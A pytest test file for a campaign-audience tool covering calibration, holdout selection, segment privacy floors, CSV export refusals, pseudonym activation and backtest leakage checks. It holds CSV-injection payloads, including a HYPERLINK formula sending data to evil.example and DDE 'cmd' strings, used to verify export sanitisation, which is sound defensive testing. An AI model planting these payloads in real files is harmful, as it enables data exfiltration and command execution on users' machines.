"""Campaign audiences: calibration, audience and holdout, segments and their floor, the
export and its refusals, activation, the backtest's time discipline, and the CLI."""

from __future__ import annotations

import argparse
import csv
import io
import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from transformers import BertConfig

from core import campaigns as C
from core.campaigns import backtesting
from core.config import Paths
from core.recommender import registry
from core.recommender.model import CrossEncoder
from core.recommender.model_config import ModelConfig
from core.store.interactions import TS, USER
from core.store.warehouse import query
from privacy.pseudonym import pseudonymize
from tests.conftest import TEST_KEY

TINY = BertConfig(vocab_size=30522, hidden_size=32, num_hidden_layers=2, num_attention_heads=2,
                  intermediate_size=64, max_position_embeddings=64)
TINY_MODEL = ModelConfig(max_length=64, item_length=24, history_len=3, prior_scale=0.0)
TINY_RUN = "ce_20250701T000000_tiny0001"
PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def save_tiny_run(paths: Paths, run_id: str = TINY_RUN) -> str:
    model = CrossEncoder.from_config(TINY, TINY_MODEL, seed=0)
    registry.save(paths, run_id=run_id, model=model, train_config={"epochs": 0},
                  privacy={"private": False, "privacy_unit": "none"},
                  fingerprint={"rows": 0})
    return run_id


def payload_explainer(model):
    """Reasons that carry CSV-injection payloads (titles are attacker-controlled)."""

    def explain(fields):
        title = next((f.text for f in fields if f.name == "item_title"), "")
        attributions = {f.name: 0.01 * (i + 1) for i, f in enumerate(fields)}
        return [PAYLOADS[0], f"because of {title}", PAYLOADS[1]], attributions

    return explain


def category_campaign(**changes) -> C.Campaign:
    values = dict(name="Gift cards push", target_kind="category", target=["Gift Cards"],
                  promotion=True, season="winter", rule="top_pct", rule_value=50.0,
                  holdout_share=0.2, seed=7)
    return C.new_campaign(**{**values, **changes})


@pytest.fixture
def scored(small_warehouse: Paths):
    """The small warehouse with a tiny model, one category campaign, scored with reasons."""
    save_tiny_run(small_warehouse)
    campaign = C.save_campaign(small_warehouse, category_campaign())
    result = C.score_campaign(small_warehouse, campaign.campaign_id,
                              config=C.ScoringConfig(ce_customers=15, val_ce_customers=10,
                                                     reasons=8),
                              explainer_factory=payload_explainer)
    return small_warehouse, result


# --- metrics and calibration ----------------------------------------------------------------


def test_ece_pins_known_values():
    assert C.expected_calibration_error([0.25] * 4, [1, 0, 0, 0]) == pytest.approx(0.0)
    assert C.expected_calibration_error([1.0, 1.0], [0, 0]) == pytest.approx(1.0)
    # two bins: |0.15 - 0.5| and |0.85 - 0.5|, equal weight
    assert C.expected_calibration_error([0.15, 0.15, 0.85, 0.85], [1, 0, 1, 0]) == \
        pytest.approx(0.35)
    table = C.reliability_table([0.05, 0.95], [0, 1], bins=10)
    assert len(table) == 10 and table["customers"].sum() == 2
    assert C.auc([0.1, 0.9], [0, 1]) == 1.0 and np.isnan(C.auc([0.1, 0.9], [1, 1]))
    assert C.top_share_lift(np.arange(10), [0] * 9 + [1], share=0.1) == pytest.approx(10.0)


def miscalibrated(n: int, seed: int) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """(over-confident raw logits, labels, true probabilities)."""
    rng = np.random.default_rng(seed)
    z = rng.normal(-2.0, 1.2, size=n)
    truth = 1 / (1 + np.exp(-z))
    labels = (rng.random(n) < truth).astype(int)
    return 3.0 * z + 2.5, labels, truth


@pytest.mark.parametrize("method", ["auto", "isotonic", "platt"])
def test_calibration_improves_ece_on_miscalibrated_scores(method):
    scores, labels, _ = miscalibrated(6000, seed=1)
    before = C.expected_calibration_error(1 / (1 + np.exp(-scores)), labels)
    calibrator = C.Calibrator(method, folds=5, seed=0).fit(scores, labels)
    after_oof = C.expected_calibration_error(calibrator.oof_, labels)
    fresh_scores, fresh_labels, _ = miscalibrated(6000, seed=2)
    after_fresh = C.expected_calibration_error(calibrator.predict(fresh_scores), fresh_labels)
    assert before > 0.08 and after_oof < before / 3 and after_fresh < before / 3
    assert after_oof < 0.03 and after_fresh < 0.03
    assert calibrator.method_ in ("isotonic", "platt")
    assert set(calibrator.ece_) == ({"isotonic", "platt"} if method == "auto" else {method})


def test_auto_calibration_keeps_the_lower_out_of_fold_ece():
    scores, labels, _ = miscalibrated(3000, seed=3)
    calibrator = C.Calibrator("auto").fit(scores, labels)
    assert calibrator.ece_[calibrator.method_] == min(calibrator.ece_.values())


def test_isotonic_never_claims_certainty_from_a_handful():
    scores = np.r_[np.linspace(0, 1, 200), np.linspace(5, 6, 8)]
    labels = np.r_[np.zeros(200, dtype=int), np.ones(8, dtype=int)]
    calibrator = C.Calibrator("isotonic").fit(scores, labels)
    top = calibrator.predict([6.0])[0]
    assert 0.5 < top < 1.0
    assert np.all(np.diff(calibrator.predict(np.linspace(0, 6, 50))) >= 0)


def test_calibrator_without_both_classes_is_the_observed_rate():
    calibrator = C.Calibrator().fit([0.1, 0.5, 0.9], [0, 0, 0])
    assert calibrator.method_ == "constant" and np.all(calibrator.predict([3.0]) == 0.0)


# --- audience, holdout, size ------------------------------------------------------------------


def test_audience_rules():
    p = np.array([0.9, 0.5, 0.3, 0.2, 0.1])
    assert C.audience_mask(p, "top_n", 2).tolist() == [True, True, False, False, False]
    assert C.audience_mask(p, "top_pct", 50).sum() == 3  # ceil(2.5)
    assert C.audience_mask(p, "min_prob", 0.3).sum() == 3
    with pytest.raises(C.CampaignError, match="top_pct"):
        C.audience_mask(p, "top_pct", 150)
    with pytest.raises(C.CampaignError, match="whole number"):
        C.audience_mask(p, "top_n", 2.5)


def test_holdout_is_stable_for_a_seed_and_inside_the_audience():
    users = [f"u_{i:05d}" for i in range(1000)]
    audience = np.arange(1000) < 400
    first = C.holdout_mask(users, audience, share=0.1, seed=3, campaign_id="cmp_a")
    again = C.holdout_mask(list(users), audience.copy(), share=0.1, seed=3, campaign_id="cmp_a")
    other = C.holdout_mask(users, audience, share=0.1, seed=4, campaign_id="cmp_a")
    assert np.array_equal(first, again)
    assert first.sum() == 40 and not (first & ~audience).any()
    assert not np.array_equal(first, other)
    assert not C.holdout_mask(users, audience, share=0.0, seed=3, campaign_id="cmp_a").any()


def test_size_curve_identities():
    p = np.array([0.5, 0.1, 0.3, 0.1])
    curve = C.size_curve(p, sizes=[1, 2, 4])
    assert curve["expected_conversions"].tolist() == pytest.approx([0.5, 0.8, 1.0])
    assert curve["expected_false_positives"].tolist() == pytest.approx([0.5, 1.2, 3.0])
    everyone = C.at_size(p, 4)
    assert everyone["precision"] == pytest.approx(p.mean())
    assert everyone["expected_recall"] == pytest.approx(1.0)
    assert everyone["lift"] == pytest.approx(1.0)


def test_campaign_definition_is_checked():
    with pytest.raises(C.CampaignError, match="exactly one"):
        category_campaign(target=["A", "B"])
    with pytest.raises(C.CampaignError, match="season"):
        category_campaign(season="monsoon")
    with pytest.raises(C.CampaignError, match="holdout_share"):
        category_campaign(holdout_share=0.9)
    with pytest.raises(C.CampaignError, match="min_prob"):
        category_campaign(rule="min_prob", rule_value=2.0)


# --- segments ------------------------------------------------------------------------------------


def features_frame(sizes: dict[str, int]) -> pd.DataFrame:
    rows = []
    for segment, n in sizes.items():
        rows += [{USER: f"u_{segment}_{i}", "age_band": segment, "region": "EU",
                  "recency": "0-30 days", "frequency": "1", "top_category": "Books"}
                 for i in range(n)]
    return pd.DataFrame(rows)


def test_segments_hide_cells_under_the_floor_on_both_sides():
    features = features_frame({"18-34": 40, "35-54": 30, "55+": 5, "65+": 25})
    audience = [u for u in features[USER] if not u.startswith("u_65+")] \
        + [f"u_65+_{i}" for i in range(6)]  # 65+: 25 in the population, 6 in the audience
    rows, hidden = C.segments(features, audience, min_cell=10)
    ages = rows[rows["dimension"] == "age band"]
    assert "55+" not in set(ages["segment"])  # 5 customers in the population
    assert "65+" not in set(ages["segment"])  # 6 in the audience
    assert (ages[["audience", "population"]] >= 10).all().all()
    assert hidden["age band"] == 2  # together 11 >= 10 in the audience: no third cell
    region = rows[rows["dimension"] == "region"].iloc[0]
    assert region["lift"] == pytest.approx(1.0) and region["population"] == 100


def test_segment_features_buckets():
    raw = pd.DataFrame({USER: ["a", "b", "c", "d"], "age_band": ["18-34", None, "35-54", None],
                        "region": ["EU", "EU", None, None], "interactions": [1, 3, 12, 0],
                        "last_ts": pd.to_datetime(["2025-06-30", "2025-04-15", "2023-01-01",
                                                   None]),
                        "top_category": ["Books", "Toys", "Books", None]})
    out = C.segment_features(raw, as_of=pd.Timestamp("2025-07-01"))
    assert out["recency"].tolist() == ["0-30 days", "31-90 days", ">365 days",
                                       "no interactions"]
    assert out["frequency"].tolist() == ["1", "2-3", "10+", "no interactions"]
    assert out["age_band"].tolist()[1] == "unknown"


# --- scoring, storage, export ---------------------------------------------------------------


def test_scoring_stores_every_customer_with_audience_and_holdout(scored):
    paths, result = scored
    stored = query("campaign_scores", paths, campaign_id=result.campaign.campaign_id)
    assert len(stored) == 60 and stored["rank"].tolist() == list(range(1, 61))
    assert stored["probability"].between(0, 1).all()
    assert stored["probability"].is_monotonic_decreasing
    assert set(stored["tier"]) <= set(C.TIERS) and (stored["tier"] == C.TIER_CE).sum() == 15
    assert stored["in_audience"].sum() == 30  # top 50%
    assert stored["in_holdout"].sum() == 6 and not (stored["in_holdout"]
                                                    & ~stored["in_audience"]).any()
    assert stored["decile"].min() == 1 and stored["decile"].max() == 10
    summary = json.loads(query("campaign_latest_scoring", paths,
                               campaign_id=result.campaign.campaign_id)["summary"].iloc[0])
    assert summary["run_id"] == TINY_RUN
    overall = summary["calibration"]["overall"]
    assert 0 <= overall["ece_after"] <= 1 and len(overall["reliability_after"]) == 10
    # 60 customers cannot give 100 validation positives: the campaign says so.
    assert any("fewer than 100" in w for w in summary["warnings"])


def test_rescoring_keeps_the_holdout(scored):
    paths, first = scored
    again = C.score_campaign(paths, first.campaign.campaign_id,
                             config=C.ScoringConfig(ce_customers=15, val_ce_customers=10,
                                                    reasons=0))
    a = first.scores.set_index(USER)
    b = again.scores.set_index(USER).loc[a.index]
    same_audience = (a["in_audience"] == b["in_audience"]).all()
    if same_audience:
        assert (a["in_holdout"] == b["in_holdout"]).all()


def test_export_never_holds_the_holdout_and_is_logged(scored, tmp_path):
    paths, result = scored
    campaign_id = result.campaign.campaign_id
    with pytest.raises(C.ExportRefused, match="fewer than the minimum of 100"):
        C.export_csv(paths, campaign_id, cell=str)
    out = tmp_path / "audience.csv"
    rows = C.write_export(paths, campaign_id, out, cell=_safe_cell(), min_rows=10)
    exported = pd.read_csv(out, dtype=str, keep_default_na=False)
    stored = query("campaign_scores", paths, campaign_id=campaign_id)
    holdout = set(stored.loc[stored["in_holdout"], USER])
    members = set(stored.loc[stored["in_audience"] & ~stored["in_holdout"], USER])
    assert rows == len(exported) == 24
    assert set(exported["pseudonym"]) == members and not holdout & set(exported["pseudonym"])
    assert list(exported.columns) == list(C.EXPORT_COLUMNS)
    log = query("campaign_exports_list", paths, campaign_id=campaign_id)
    assert log[["rows", "file_name"]].values.tolist() == [[24, "audience.csv"]]


def _safe_cell():
    from privacy.csv_safe import safe_cell

    return safe_cell


def test_csv_injection_payloads_are_neutralised(scored, tmp_path):
    paths, result = scored
    out = tmp_path / "audience.csv"
    C.write_export(paths, result.campaign.campaign_id, out, cell=_safe_cell(), min_rows=10)
    cells = [c for row in csv.reader(io.StringIO(out.read_text())) for c in row]
    reasons = [c for c in cells if "cmd" in c or "HYPERLINK" in c]
    assert reasons, "the explained members' payload reasons are exported"
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # only plain numbers (a negative score) may start that way


def test_export_frame_refuses_small_lists_and_drops_the_holdout():
    rows = pd.DataFrame({USER: [f"u_{i}" for i in range(120)], "score": -1.5,
                         "probability": 0.2, "decile": 1,
                         "reasons": [json.dumps([p]) for p in PAYLOADS] * 20,
                         "in_holdout": [i < 25 for i in range(120)]})
    with pytest.raises(C.ExportRefused):
        C.export_frame(rows, cell=_safe_cell())  # 95 left after the holdout
    frame = C.export_frame(rows, cell=_safe_cell(), min_rows=95)
    assert len(frame) == 95 and not set(frame["pseudonym"]) & {f"u_{i}" for i in range(25)}
    assert frame["score"].eq("-1.5").all()
    assert not frame["reason_1"].str.startswith(FORMULA_STARTS).any()


def test_reasons_and_drivers(scored):
    paths, result = scored
    reasons = query("campaign_reasons", paths, campaign_id=result.campaign.campaign_id)
    assert 0 < len(reasons) <= 8
    assert all(len(json.loads(r)) == 3 for r in reasons["reasons"])
    features = C.segment_features(C.customer_features(paths), as_of=pd.Timestamp("2025-07-01"))
    parsed = reasons.assign(reasons=reasons["reasons"].map(json.loads))
    drivers, hidden = C.segment_drivers(features, parsed, min_cell=10)
    assert drivers.empty or (drivers["members"] >= 10).all()
    few, _ = C.segment_drivers(features, parsed, min_cell=1)
    assert set(few.columns) >= set(C.FIELD_GROUPS)


def test_reassign_audience_rederives_flags(scored):
    paths, result = scored
    campaign = C.reassign_audience(paths, result.campaign.campaign_id, rule="top_n", value=20)
    stored = query("campaign_scores", paths, campaign_id=campaign.campaign_id)
    assert stored["in_audience"].sum() == 20 and stored["in_holdout"].sum() == 4
    assert C.load_campaign(paths, campaign.campaign_id).rule == "top_n"


# --- activation -----------------------------------------------------------------------------------


def test_activate_maps_pseudonyms_back_with_the_key(warehouse_paths, tmp_path):
    from core.store.warehouse import ensure_schema

    ensure_schema(warehouse_paths)
    ids = [f"C{i:04d}" for i in range(150)]
    raw = tmp_path / "steward" / "customers.csv"
    raw.parent.mkdir()
    pd.DataFrame({"customer_id": ids, "email": [f"c{i}@example.com" for i in range(150)],
                  "name": ["=cmd|' /C calc'!A0"] * 150}).to_csv(raw, index=False)
    pseudonyms = pseudonymize(ids[:120], key=TEST_KEY)
    export = tmp_path / "export.csv"
    pd.DataFrame({"pseudonym": pseudonyms + ["u_" + "0" * 32], "score": 1.0,
                  "probability": 0.3, "decile": 1}).to_csv(export, index=False)
    out = tmp_path / "steward" / "activation.csv"
    counts = C.activate(export, raw, out, key=TEST_KEY, paths=warehouse_paths,
                        cell=_safe_cell(), columns=["email", "name"])
    assert counts == {"rows_in": 121, "rows_matched": 120}
    joined = pd.read_csv(out, dtype=str)
    assert set(joined["customer_id"]) == set(ids[:120])
    assert joined["name"].str.startswith("'=").all()
    log = query("activation_log_recent", warehouse_paths, limit=5)
    assert log[["export_file", "rows_in", "rows_matched", "out_file"]].values.tolist() == \
        [["export.csv", 121, 120, "activation.csv"]]
    logged = " ".join(map(str, log.iloc[0].tolist()))
    assert not any(i in logged for i in ids) and "example.com" not in logged
    with pytest.raises(C.CampaignError, match="outside the data directory"):
        C.activate(export, raw, warehouse_paths.data_dir / "x.csv", key=TEST_KEY,
                   paths=warehouse_paths, cell=str)


# --- backtest ----------------------------------------------------------------------------------


def test_backtest_sees_nothing_from_the_cutoff_on(small_warehouse, monkeypatch):
    """Every input of the model, the candidates, the calibration and the popularity
    baseline lies strictly before the cutoff; only the outcome window is after it."""
    paths = small_warehouse
    cutoff = pd.Timestamp("2025-04-01")
    save_tiny_run(paths)
    campaign = C.save_campaign(paths, category_campaign())
    seen: dict[str, object] = {}

    def fake_train(paths_, **kwargs):
        seen["train"] = kwargs
        return TINY_RUN

    real_propensity, real_popularity = C.propensity, C.popularity_ranking

    def spy_propensity(interactions, *args, **kwargs):
        seen["propensity"] = interactions.copy()
        return real_propensity(interactions, *args, **kwargs)

    def spy_popularity(history, *args, **kwargs):
        seen["popularity"] = history.copy()
        return real_popularity(history, *args, **kwargs)

    monkeypatch.setattr(backtesting, "train_before", fake_train)
    monkeypatch.setattr(backtesting, "propensity", spy_propensity)
    monkeypatch.setattr(backtesting, "popularity_ranking", spy_popularity)
    report = C.backtest(paths, campaign, cutoff=cutoff, horizon_days=60,
                        config=C.ScoringConfig(ce_customers=10, val_ce_customers=5, reasons=0))
    assert seen["train"]["cutoff"] == cutoff
    for name in ("propensity", "popularity"):
        frame = seen[name]
        assert len(frame) and frame[TS].max() < cutoff, name
    assert pd.Timestamp(report["inputs"]["latest_input_ts"]) < cutoff
    assert report["buyers"] > 0 and 0 < report["base_rate"] < 1
    assert {"model", "popularity"} <= set(report["rankings"])
    gains = report["rankings"]["model"]["gains"]
    assert gains[-1]["share"] == 1.0 and gains[-1]["captured"] == pytest.approx(1.0)
    C.save_backtest(paths, report)
    stored = query("campaign_latest_backtest", paths, campaign_id=campaign.campaign_id)
    assert json.loads(stored["result"].iloc[0])["cutoff"].startswith("2025-04-01")


def test_assert_before_catches_a_leak():
    frame = pd.DataFrame({TS: pd.to_datetime(["2025-03-31", "2025-04-01"])})
    with pytest.raises(AssertionError, match="not before the cutoff"):
        C.assert_before(frame, pd.Timestamp("2025-04-01"), "interactions")


def test_train_before_passes_the_cutoff_to_training(monkeypatch, warehouse_paths):
    import core.recommender.train as train_mod

    calls = {}

    def fake(paths, config=None, *, before=None, model_config=None, bert_config=None,
             progress=True):
        calls["before"] = before
        return "ce_fake"

    monkeypatch.setattr(train_mod, "train", fake)
    assert C.train_before(warehouse_paths, cutoff=pd.Timestamp("2025-04-01")) == "ce_fake"
    assert calls["before"] == pd.Timestamp("2025-04-01")

    def old(paths, config=None, *, model_config=None, bert_config=None, progress=True):
        return "ce_old"

    monkeypatch.setattr(train_mod, "train", old)
    with pytest.raises(C.CampaignError, match="no `before` keyword"):
        C.train_before(warehouse_paths, cutoff=pd.Timestamp("2025-04-01"))


@pytest.mark.slow
def test_real_training_reads_only_rows_before_the_cutoff(small_warehouse, monkeypatch):
    """The real DP training run of a backtest: every interactions load of the whole run
    (training data, candidates' popularity, scoring) except the outcome window is before
    the cutoff."""
    import core.store.interactions as interactions_mod
    from core.recommender.config import TrainConfig

    cutoff = pd.Timestamp("2025-04-01")
    loads: list[tuple[dict, pd.DataFrame]] = []
    real_query = interactions_mod.query

    def spy(name, paths=None, **params):
        frame = real_query(name, paths, **params)
        if name == "interactions":
            loads.append((params, frame))
        return frame

    monkeypatch.setattr(interactions_mod, "query", spy)
    campaign = C.save_campaign(small_warehouse, category_campaign())
    report = C.backtest(small_warehouse, campaign, cutoff=cutoff, horizon_days=60,
                        train_config=TrainConfig(non_private=True, epochs=1, batch_size=8,
                                                 val_users=0, eval_users=5),
                        model_config=TINY_MODEL, bert_config=TINY,
                        config=C.ScoringConfig(ce_customers=10, reasons=0))
    assert report["run_id"]
    inputs = [f for p, f in loads if tuple(p.get("event_types") or ()) !=
              C.OUTCOME_EVENT_TYPES]
    assert inputs and all(f.empty or f[TS].max() < cutoff for f in inputs)


# --- CLI ------------------------------------------------------------------------------------------


def cli(*argv: str) -> None:
    from core.cli.campaigns import register

    parser = argparse.ArgumentParser(prog="clearmark")
    register(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(list(argv))
    args.func(args)


def test_cli_create_score_audience_and_refused_export(small_warehouse, tmp_path, capsys):
    from core.cli.main import UsageError

    save_tiny_run(small_warehouse)
    cli("campaign", "create", "--name", "Books", "--category", "Books", "--season", "spring",
        "--rule", "top_n", "--value", "20")
    campaign_id = C.list_campaigns(small_warehouse)["campaign_id"].iloc[0]
    cli("campaign", "score", campaign_id, "--ce-customers", "10", "--reasons", "2")
    out = capsys.readouterr().out
    assert "Scored 60 customers" in out and "audience 20" in out and "WARNING" in out
    cli("campaign", "audience", campaign_id, "--rule", "top_pct", "--value", "25")
    with pytest.raises(UsageError, match="minimum of 100"):
        cli("campaign", "export", campaign_id, "--out", str(tmp_path / "a.csv"))
    assert not (tmp_path / "a.csv").exists()
    with pytest.raises(UsageError, match="no catalogue item"):
        cli("campaign", "create", "--name", "x", "--category", "Nope")
    with pytest.raises(UsageError, match="no campaign"):
        cli("campaign", "score", "cmp_missing")


def test_cli_help_describes_every_command():
    from core.cli.campaigns import register

    parser = argparse.ArgumentParser(prog="clearmark")
    sub = parser.add_subparsers(dest="command")
    register(sub)
    for name, command in sub.choices.items():
        assert command.description, name
    campaign = sub.choices["campaign"]
    actions = [a for a in campaign._actions if isinstance(a, argparse._SubParsersAction)]
    for name, command in actions[0].choices.items():
        assert command.description, name
    for module in Path(C.__file__).parent.glob("*.py"):
        assert module.read_text().count("import explain") == 0, module.name
